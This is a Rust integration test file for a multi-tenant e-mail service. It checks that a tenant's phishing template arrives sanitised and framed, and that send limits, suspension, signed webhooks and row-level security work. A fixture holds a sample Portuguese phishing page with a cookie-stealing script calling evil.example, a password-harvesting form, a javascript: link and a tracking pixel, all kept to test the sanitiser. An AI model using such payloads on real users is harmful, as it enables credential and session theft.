//! Issue 33, "platform mail carries platform words only": a tenant with no
//! Resend key of its own tries to phish from the platform's address, through
//! the real endpoints (a client's "send e-mail", a manual sale), and the
//! real sender job delivers to a Resend stand-in over HTTP. What arrives must
//! be sanitised and framed, and a burst past the daily limit is refused.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};

use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode as AxumStatus};
use axum::routing::{get, post};
use axum::{Json, Router};
use reqwest::StatusCode;
use serde_json::{json, Value};
use shared::infrastructure::db::{self, Scope};
use shared::workflows::jobs::SendEmail;
use uuid::Uuid;

use crate::support::{json as read_json, Caller, TenantFixture, TestApp};

/// A stand-in of the Resend API (real HTTP, Resend's shapes): it keeps every
/// e-mail it is sent, and answers the domains API from `domains`.
#[derive(Clone, Default)]
pub struct ResendStandIn {
    pub received: Arc<Mutex<Vec<(HeaderMap, Value)>>>,
    pub domains: Arc<Mutex<Vec<Value>>>,
    pub script: Arc<Mutex<VecDeque<u16>>>,
}

async fn emails(
    State(resend): State<ResendStandIn>,
    headers: HeaderMap,
    Json(body): Json<Value>,
) -> (AxumStatus, Json<Value>) {
    let status = resend.script.lock().unwrap().pop_front().unwrap_or(200);
    resend.received.lock().unwrap().push((headers, body));
    (AxumStatus::from_u16(status).unwrap(), Json(json!({"id": format!("re_{}", Uuid::now_v7().simple())})))
}

/// `GET /domains`: Resend's list (`{ object: "list", data: [...] }`, no records).
async fn domains(State(resend): State<ResendStandIn>, headers: HeaderMap) -> (AxumStatus, Json<Value>) {
    if headers.get("authorization").is_none() {
        return (AxumStatus::UNAUTHORIZED, Json(json!({"statusCode": 401, "name": "missing_api_key"})));
    }
    let data: Vec<Value> = resend
        .domains
        .lock()
        .unwrap()
        .iter()
        .map(|d| {
            let mut item = d.clone();
            item.as_object_mut().unwrap().remove("records");
            item
        })
        .collect();
    (AxumStatus::OK, Json(json!({"object": "list", "data": data})))
}

/// `GET /domains/{id}`: one domain with its DNS records.
async fn domain(State(resend): State<ResendStandIn>, Path(id): Path<String>) -> (AxumStatus, Json<Value>) {
    match resend.domains.lock().unwrap().iter().find(|d| d["id"] == id.as_str()) {
        Some(found) => (AxumStatus::OK, Json(found.clone())),
        None => (AxumStatus::NOT_FOUND, Json(json!({"statusCode": 404, "name": "not_found"}))),
    }
}

impl ResendStandIn {
    pub async fn start() -> (String, Self) {
        let resend = Self::default();
        let app = Router::new()
            .route("/emails", post(emails))
            .route("/domains", get(domains))
            .route("/domains/{id}", get(domain))
            .with_state(resend.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        (base, resend)
    }

    pub fn bodies(&self) -> Vec<Value> {
        self.received.lock().unwrap().iter().map(|(_, body)| body.clone()).collect()
    }
}

/// Runs the sender job for every pending message of `tenant`, as the worker would.
pub async fn send_pending(app: &TestApp, tenant: Uuid) {
    let ids: Vec<Uuid> = {
        let mut tx = db::begin(&app.db.app_pool, Scope::worker_for(tenant)).await.unwrap();
        let ids = sqlx::query_scalar("SELECT id FROM email_outbox WHERE status = 'pending' ORDER BY created_at, id")
            .fetch_all(&mut *tx)
            .await
            .unwrap();
        tx.commit().await.unwrap();
        ids
    };
    for outbox_id in ids {
        worker::email::send(&app.db.worker_pool, &app.state.config, &SendEmail { tenant_id: tenant, outbox_id })
            .await
            .unwrap();
    }
}

/// (status, last_error) of every message of `tenant`, oldest first.
pub async fn outbox_states(app: &TestApp, tenant: Uuid) -> Vec<(String, Option<String>)> {
    let mut tx = db::begin(&app.db.app_pool, Scope::worker_for(tenant)).await.unwrap();
    sqlx::query_as("SELECT status, last_error FROM email_outbox ORDER BY created_at, id")
        .fetch_all(&mut *tx)
        .await
        .unwrap()
}

const PHISH: &str = concat!(
    "<html><body><h1>RoboForge Suporte</h1><p>Olá {{clientName}}, sua conta será suspensa.</p>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<form action=\"https://evil.example/steal\" method=\"post\"><p>Confirme sua senha:</p>",
    "<input type=\"password\" name=\"senha\"><button>Confirmar</button></form>",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<a href=\"javascript:alert(document.cookie)\">Verificar conta</a> ",
    "<a href=\"https://evil.example/login\" onclick=\"steal()\">https://roboforge.com.br/login</a>",
    "<img src=\"https://tracker.example/pixel.gif?u={{email}}\" width=\"1\" height=\"1\">",
    "</body></html>"
);

/// Today in São Paulo (a sale date may not be in the future there).
fn sao_paulo_today() -> String {
    let brasilia = chrono::FixedOffset::west_opt(3 * 3600).unwrap();
    chrono::Utc::now().with_timezone(&brasilia).format("%Y-%m-%d").to_string()
}

/// The attacker's setup: the platform's own name as display name and the
/// phishing text as both buyer templates.
async fn arm(owner: &Caller) {
    let settings =
        owner.patch_json("/api/tenant/settings", json!({"displayName": "RoboForge Suporte - Ação necessária"}));
    assert_eq!(settings.await.status(), StatusCode::OK);
    let templates =
        owner.patch_json("/api/tenant/email-templates", json!({"welcome": PHISH, "saleConfirmation": PHISH}));
    assert_eq!(templates.await.status(), StatusCode::OK);
}

async fn new_client(owner: &Caller, email: &str) -> Uuid {
    let (status, client) = read_json(
        owner.post("/api/tenant/clients", json!({"name": "Vítima", "email": email, "password": "segredo123"})).await,
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{client}");
    client["id"].as_str().unwrap().parse().unwrap()
}

fn assert_framed_and_clean(body: &Value, tenant: &TenantFixture) {
    let from = body["from"].as_str().unwrap();
    let subject = body["subject"].as_str().unwrap();
    let html = body["html"].as_str().unwrap();
    let registered = format!("Loja {}", tenant.url.trim_end_matches(".example.com"));
    assert_eq!(
        from,
        format!("\"{registered} via RoboForge\" <noreply@roboforge.com.br>"),
        "the tenant named, the platform's address"
    );
    assert!(!subject.to_lowercase().contains("roboforge"), "the subject cannot speak as the platform: {subject}");
    assert!(subject.starts_with(&registered), "the subject names the sender: {subject}");
    for forbidden in [
        "<script",
        "document.cookie",
        "<form",
        "<input",
        "type=\"password\"",
        "<button",
        "<iframe",
        "javascript:",
        "onclick",
        "<img",
        "tracker.example",
        "evil.example/steal",
    ] {
        assert!(!html.contains(forbidden), "{forbidden} arrived in {html}");
    }
    assert!(
        html.contains(">https://roboforge.com.br/login</a> <span style=\"color:#52525b\">(evil.example)</span>"),
        "a link shows its real host: {html}"
    );
    assert!(html.contains("data-rf-frame-footer"), "the platform's footer: {html}");
    assert!(html.contains(&format!("enviada por <strong>{registered}</strong>")), "{html}");
    assert!(html.contains("mailto:abuse@roboforge.com.br"), "how to report abuse: {html}");
    assert!(html.trim_end().ends_with("</body></html>") && html.matches("<html").count() == 1, "one page, ours");
}

#[tokio::test]
async fn a_keyless_tenants_phishing_template_arrives_sanitised_framed_and_the_26th_send_is_refused() {
    let (base, resend) = ResendStandIn::start().await;
    let app = TestApp::spawn_with(|config| {
        config.email.resend_api_base = base.clone();
        config.email.resend_api_key = Some("re_platform_key".into());
        config.email.daily_limit = 25;
    })
    .await;
    let demo = app.tenant("demo").await;
    let owner = app.owner_of(&demo).await;
    let robot = app.robot(&demo, "Robô Alfa").await;
    arm(&owner).await;

    // Through the client's page.
    let victim = new_client(&owner, "vitima@example.com").await;
    let sent = owner.post(&format!("/api/tenant/clients/{victim}/send-email"), json!({"robotId": robot})).await;
    assert_eq!(sent.status(), StatusCode::ACCEPTED);
    // Through a manual sale to any address (welcome + sale confirmation).
    let sale = owner
        .http
        .post(format!("{}/api/tenant/manual-sales", owner.base))
        .header("x-tenant-secret", owner.tenant_secret.as_deref().unwrap())
        .header("idempotency-key", Uuid::now_v7().to_string())
        .json(&json!({"buyerName": "Outra Vítima", "buyerEmail": "outra@example.com", "robotId": robot,
                      "amount": "10,00", "paymentMethod": "pix",
                      "saleDate": sao_paulo_today()}))
        .send()
        .await
        .unwrap();
    let (status, recorded) = read_json(sale).await;
    assert_eq!(status, StatusCode::CREATED, "{recorded}");
    assert_eq!(recorded["emailRefusal"], Value::Null);
    send_pending(&app, demo.id).await;

    let bodies = resend.bodies();
    assert_eq!(bodies.len(), 3, "one welcome by hand, a welcome and a confirmation from the sale");
    for body in &bodies {
        assert_framed_and_clean(body, &demo);
    }
    let received = resend.received.lock().unwrap().clone();
    assert_eq!(received[0].0["authorization"], "Bearer re_platform_key", "the platform's key carried it");

    // The burst: 3 used; 22 more pass, the next is refused with a pt-BR
    // reason, recorded and never sent.
    let mut statuses = Vec::new();
    for n in 0..23 {
        let client = new_client(&owner, &format!("alvo{n}@example.com")).await;
        let answer = owner.post(&format!("/api/tenant/clients/{client}/send-email"), json!({"robotId": robot})).await;
        statuses.push(answer.status());
        if answer.status() == StatusCode::TOO_MANY_REQUESTS {
            let (_, body) = read_json(answer).await;
            let message = body["message"].as_str().unwrap();
            assert!(message.contains("limite de 25 e-mails por dia"), "{message}");
        }
    }
    assert!(statuses[..22].iter().all(|s| *s == StatusCode::ACCEPTED), "{statuses:?}");
    assert_eq!(statuses[22], StatusCode::TOO_MANY_REQUESTS, "the 26th message is refused");
    send_pending(&app, demo.id).await;
    assert_eq!(resend.bodies().len(), 25, "nothing past the limit reached Resend");
    let states = outbox_states(&app, demo.id).await;
    let refused: Vec<_> = states.iter().filter(|(s, _)| s == "refused").collect();
    assert_eq!(refused.len(), 1, "{states:?}");
    assert!(refused[0].1.as_deref().unwrap().starts_with("Não enviado: "), "{refused:?}");
}

/// A tenant armed with the phishing templates, a robot and a client to mail.
async fn armed_tenant(app: &TestApp) -> (TenantFixture, Caller, Uuid) {
    let demo = app.tenant("demo").await;
    let owner = app.owner_of(&demo).await;
    let robot = app.robot(&demo, "Robô Alfa").await;
    arm(&owner).await;
    (demo, owner, robot)
}

async fn platform_app(base: &str, adjust: impl FnOnce(&mut shared::infrastructure::config::Config)) -> TestApp {
    let base = base.to_string();
    TestApp::spawn_with(move |config| {
        config.email.resend_api_base = base;
        config.email.resend_api_key = Some("re_platform_key".into());
        adjust(config);
    })
    .await
}

#[tokio::test]
async fn one_address_gets_at_most_the_per_recipient_limit_a_day() {
    let (base, resend) = ResendStandIn::start().await;
    let app = platform_app(&base, |config| config.email.recipient_daily_limit = 3).await;
    let (demo, owner, robot) = armed_tenant(&app).await;
    let victim = new_client(&owner, "Vitima@Example.com").await;
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(owner.post(&format!("/api/tenant/clients/{victim}/send-email"), json!({"robotId": robot})).await);
    }
    let codes: Vec<_> = statuses.iter().map(reqwest::Response::status).collect();
    assert_eq!(
        codes,
        [StatusCode::ACCEPTED, StatusCode::ACCEPTED, StatusCode::ACCEPTED, StatusCode::TOO_MANY_REQUESTS]
    );
    let (_, body) = read_json(statuses.pop().unwrap()).await;
    assert!(body["message"].as_str().unwrap().contains("vitima@example.com já recebeu 3 e-mails"), "{body}");
    send_pending(&app, demo.id).await;
    assert_eq!(resend.bodies().len(), 3);
}

#[tokio::test]
async fn sends_at_once_cannot_both_take_the_last_slot() {
    let (base, resend) = ResendStandIn::start().await;
    let app = platform_app(&base, |config| config.email.daily_limit = 5).await;
    let (demo, owner, robot) = armed_tenant(&app).await;
    let mut clients = Vec::new();
    for n in 0..12 {
        clients.push(new_client(&owner, &format!("par{n}@example.com")).await);
    }
    let sends = clients.iter().map(|client| {
        let url = format!("{}/api/tenant/clients/{client}/send-email", owner.base);
        let (http, secret) = (owner.http.clone(), owner.tenant_secret.clone().unwrap());
        async move {
            http.post(url)
                .header("x-tenant-secret", secret)
                .json(&json!({"robotId": robot}))
                .send()
                .await
                .unwrap()
                .status()
        }
    });
    let statuses = crate::support::join_all(sends).await;
    let accepted = statuses.iter().filter(|s| **s == StatusCode::ACCEPTED).count();
    let refused = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!((accepted, refused), (5, 7), "{statuses:?}");
    send_pending(&app, demo.id).await;
    assert_eq!(resend.bodies().len(), 5);
}

#[tokio::test]
async fn the_admin_overrides_the_limit_and_suspends_a_tenants_mail_audited() {
    let (base, resend) = ResendStandIn::start().await;
    let app = platform_app(&base, |config| config.email.daily_limit = 1).await;
    let (demo, owner, robot) = armed_tenant(&app).await;
    let admin = app.as_admin().await;
    let (status, view) =
        read_json(admin.put_json(&format!("/api/tenants/{}/mail", demo.id), json!({"dailyLimit": 2})).await).await;
    assert_eq!(status, StatusCode::OK, "{view}");
    assert_eq!((view["dailyLimit"].as_i64(), view["defaultDailyLimit"].as_i64()), (Some(2), Some(1)));
    let bad = admin.put_json(&format!("/api/tenants/{}/mail", demo.id), json!({"dailyLimit": 0})).await;
    let (status, body) = read_json(bad).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body["fields"]["dailyLimit"].as_str().unwrap().starts_with("Informe um limite"), "{body}");

    let first = new_client(&owner, "um@example.com").await;
    let second = new_client(&owner, "dois@example.com").await;
    let third = new_client(&owner, "tres@example.com").await;
    for client in [first, second] {
        let sent = owner.post(&format!("/api/tenant/clients/{client}/send-email"), json!({"robotId": robot})).await;
        assert_eq!(sent.status(), StatusCode::ACCEPTED, "the override (2) applies, not the default (1)");
    }
    let over = owner.post(&format!("/api/tenant/clients/{third}/send-email"), json!({"robotId": robot})).await;
    assert_eq!(over.status(), StatusCode::TOO_MANY_REQUESTS);
    // The two are still queued when the admin suspends: they are refused
    // when their turn comes, and new ones are refused at once.
    let suspend = json!({"suspended": true, "reason": "denúncias de phishing", "dailyLimit": 2});
    let (status, view) = read_json(admin.put_json(&format!("/api/tenants/{}/mail", demo.id), suspend).await).await;
    assert_eq!(status, StatusCode::OK, "{view}");
    assert!(view["suspendedAt"].is_string());
    send_pending(&app, demo.id).await;
    assert_eq!(resend.bodies().len(), 0, "nothing goes out while suspended");
    let blocked = owner.post(&format!("/api/tenant/clients/{first}/send-email"), json!({"robotId": robot})).await;
    let (status, body) = read_json(blocked).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert!(body["message"].as_str().unwrap().contains("suspenso pela plataforma (denúncias de phishing)"), "{body}");
    let states = outbox_states(&app, demo.id).await;
    assert!(states.iter().all(|(s, _)| s == "refused"), "{states:?}");

    // The owner sees why; the admin's volume counts them.
    let (status, sending) = read_json(owner.get("/api/tenant/email-sending").await).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!((sending["suspended"].as_bool(), sending["sendsWithOwnKey"].as_bool()), (Some(true), Some(false)));
    let (_, problems) = read_json(owner.get("/api/tenant/email-sending/problems").await).await;
    assert_eq!(problems["total"], 4, "{problems}");
    assert_eq!(problems["items"][0]["status"], "refused");
    let (_, volume) = read_json(admin.get("/api/mail-volume?q=demo").await).await;
    assert_eq!(volume["items"][0]["refusedDay"], 4, "{volume}");
    assert!(volume["items"][0]["suspendedAt"].is_string());
    assert_eq!(volume["items"][0]["sentDay"], 0);

    // Resume: mail flows again; both changes are in the audit log.
    let (status, _) = read_json(
        admin.put_json(&format!("/api/tenants/{}/mail", demo.id), json!({"suspended": false, "dailyLimit": 10})).await,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        owner.post(&format!("/api/tenant/clients/{first}/send-email"), json!({"robotId": robot})).await.status(),
        StatusCode::ACCEPTED
    );
    send_pending(&app, demo.id).await;
    assert_eq!(resend.bodies().len(), 1);
    let (_, audit) = read_json(admin.get("/api/audit-log?entity=tenant_mail").await).await;
    assert_eq!(audit["total"], 3, "{audit}");
}

/// Resend's signature over `id.timestamp.body` (Svix), as the stand-in of its webhook sender.
fn svix_sign(secret: &str, id: &str, timestamp: i64, body: &str) -> String {
    use base64::Engine;
    use hmac::{KeyInit, Mac};
    let key = base64::engine::general_purpose::STANDARD.decode(secret.trim_start_matches("whsec_")).unwrap();
    let mut mac = <hmac::Hmac<sha2::Sha256> as KeyInit>::new_from_slice(&key).unwrap();
    mac.update(format!("{id}.{timestamp}.{body}").as_bytes());
    format!("v1,{}", base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes()))
}

#[tokio::test]
async fn resends_signed_bounces_and_complaints_are_recorded_once_and_shown_to_their_owner_only() {
    const SECRET: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let (base, _resend) = ResendStandIn::start().await;
    let app = platform_app(&base, |config| config.email.webhook_secret = Some(SECRET.into())).await;
    let (demo, owner, robot) = armed_tenant(&app).await;
    let client = new_client(&owner, "devolve@example.com").await;
    owner.post(&format!("/api/tenant/clients/{client}/send-email"), json!({"robotId": robot})).await;
    send_pending(&app, demo.id).await;
    let provider_id: String = {
        let mut tx = db::begin(&app.db.app_pool, Scope::worker_for(demo.id)).await.unwrap();
        sqlx::query_scalar("SELECT provider_id FROM email_outbox WHERE status = 'sent'")
            .fetch_one(&mut *tx)
            .await
            .unwrap()
    };
    let body = json!({"type": "email.bounced", "created_at": "2026-11-27T12:00:00.000Z",
        "data": {"email_id": provider_id, "to": ["devolve@example.com"], "subject": "x",
                 "bounce": {"message": "550 5.1.1 mailbox does not exist", "type": "Permanent"}}})
    .to_string();
    let now = chrono::Utc::now().timestamp();
    let post = |id: &str, ts: i64, signature: String, body: String| {
        app.browser()
            .post(app.url("/api/webhooks/resend"))
            .header("content-type", "application/json")
            .header("svix-id", id)
            .header("svix-timestamp", ts.to_string())
            .header("svix-signature", signature)
            .body(body)
            .send()
    };
    // Forged, tampered or stale deliveries are refused and change nothing.
    let forged = post("msg_1", now, "v1,AAAA".into(), body.clone()).await.unwrap();
    assert_eq!(forged.status(), StatusCode::UNAUTHORIZED);
    let tampered =
        post("msg_1", now, svix_sign(SECRET, "msg_1", now, &body), body.replace("550", "551")).await.unwrap();
    assert_eq!(tampered.status(), StatusCode::UNAUTHORIZED);
    let stale = post("msg_1", now - 3600, svix_sign(SECRET, "msg_1", now - 3600, &body), body.clone()).await.unwrap();
    assert_eq!(stale.status(), StatusCode::UNAUTHORIZED);
    // The real one is recorded; its redelivery is a duplicate.
    for duplicate in [false, true] {
        let (status, receipt) =
            read_json(post("msg_1", now, svix_sign(SECRET, "msg_1", now, &body), body.clone()).await.unwrap()).await;
        assert_eq!(status, StatusCode::OK, "{receipt}");
        assert_eq!(receipt["duplicate"], duplicate, "{receipt}");
    }
    let complaint = json!({"type": "email.complained", "data": {"email_id": provider_id}}).to_string();
    let (status, receipt) =
        read_json(post("msg_2", now, svix_sign(SECRET, "msg_2", now, &complaint), complaint.clone()).await.unwrap())
            .await;
    assert_eq!((status, receipt["recorded"].as_str()), (StatusCode::OK, Some("complained")));

    let (_, problems) = read_json(owner.get("/api/tenant/email-sending/problems").await).await;
    assert_eq!(problems["total"], 1, "{problems}");
    let item = &problems["items"][0];
    assert!(item["bouncedAt"].is_string() && item["complainedAt"].is_string(), "{item}");
    assert_eq!(item["deliveryDetail"], "550 5.1.1 mailbox does not exist");
    let other = app.tenant("outra").await;
    let (_, theirs) = read_json(app.owner_of(&other).await.get("/api/tenant/email-sending/problems").await).await;
    assert_eq!(theirs["total"], 0, "another tenant's owner sees none of it");
    let (_, volume) = read_json(app.as_admin().await.get("/api/mail-volume?q=demo").await).await;
    assert_eq!(
        (volume["items"][0]["bouncedDay"].as_i64(), volume["items"][0]["complainedMonth"].as_i64()),
        (Some(1), Some(1))
    );
}

#[tokio::test]
async fn the_owner_sees_whether_their_own_domain_is_verified_at_resend() {
    let (base, resend) = ResendStandIn::start().await;
    let app = platform_app(&base, |_| {}).await;
    let demo = app.tenant("demo").await;
    let owner = app.owner_of(&demo).await;
    let (status, none) = read_json(owner.get("/api/tenant/email-sending/domain").await).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(none["state"], "not_configured");
    assert_eq!(none["message"], "Sem domínio próprio: seus e-mails saem pelo RoboForge em nome de Loja demo.");

    resend.domains.lock().unwrap().push(json!({
        "id": "d91cd9bd", "name": "mail.loja.com.br", "status": "pending", "region": "sa-east-1",
        "records": [
            {"record": "SPF", "name": "send.mail", "type": "MX", "ttl": "Auto", "status": "pending",
             "value": "feedback-smtp.sa-east-1.amazonses.com", "priority": 10},
            {"record": "DKIM", "name": "resend._domainkey.mail", "type": "TXT", "ttl": "Auto", "status": "verified",
             "value": "p=MIGf"}
        ]
    }));
    let saved = owner
        .patch_json(
            "/api/tenant/email-settings",
            json!({"resendApiKey": "re_tenant_key_123", "resendDomain": "mail.loja.com.br"}),
        )
        .await;
    assert_eq!(saved.status(), StatusCode::OK);
    let (_, pending) = read_json(owner.get("/api/tenant/email-sending/domain").await).await;
    assert_eq!(pending["state"], "pending", "{pending}");
    assert_eq!(pending["records"][0]["priority"], 10);
    assert_eq!(pending["records"][1]["record"], "DKIM");
    assert_eq!(pending["records"][1]["status"], "verified");
    resend.domains.lock().unwrap()[0]["status"] = json!("verified");
    let (_, verified) = read_json(owner.get("/api/tenant/email-sending/domain").await).await;
    assert_eq!(verified["state"], "verified");
    let (_, sending) = read_json(owner.get("/api/tenant/email-sending").await).await;
    assert_eq!(sending["sendsWithOwnKey"], true);

    // A domain the key's account does not have.
    owner.patch_json("/api/tenant/email-settings", json!({"resendDomain": "outro.com.br"})).await;
    let (_, missing) = read_json(owner.get("/api/tenant/email-sending/domain").await).await;
    assert_eq!(missing["state"], "not_found");
}

#[tokio::test]
async fn the_counters_have_forced_row_level_security_for_the_runtime_role() {
    let app = TestApp::spawn().await;
    let alfa = app.tenant("alfa").await;
    let beta = app.tenant("beta").await;
    for tenant in [&alfa, &beta] {
        let mut tx = db::begin(&app.db.app_pool, Scope::worker_for(tenant.id)).await.unwrap();
        shared::repositories::email_limits::reserve(&mut tx, tenant.id, "x@example.com", 10, 10)
            .await
            .unwrap()
            .unwrap();
        tx.commit().await.unwrap();
    }
    for table in ["email_send_counts", "email_delivery_events"] {
        let mut tx = db::begin(&app.db.app_pool, Scope::owner(alfa.id, Uuid::now_v7())).await.unwrap();
        let forced: (bool, bool) =
            sqlx::query_as("SELECT relrowsecurity, relforcerowsecurity FROM pg_class WHERE relname = $1")
                .bind(table)
                .fetch_one(&mut *tx)
                .await
                .unwrap();
        assert_eq!(forced, (true, true), "{table}");
    }
    // As the owner role of alfa: only alfa's counters, and no write into beta's.
    let mut tx = db::begin(&app.db.app_pool, Scope::owner(alfa.id, Uuid::now_v7())).await.unwrap();
    let seen: Vec<Uuid> =
        sqlx::query_scalar("SELECT DISTINCT tenant_id FROM email_send_counts").fetch_all(&mut *tx).await.unwrap();
    assert_eq!(seen, [alfa.id]);
    let smuggled = sqlx::query(
        "INSERT INTO email_send_counts (tenant_id, day, recipient, sent) VALUES ($1, current_date, 'y', 0)",
    )
    .bind(beta.id)
    .execute(&mut *tx)
    .await;
    assert!(smuggled.is_err(), "RLS refuses another tenant's row");
}
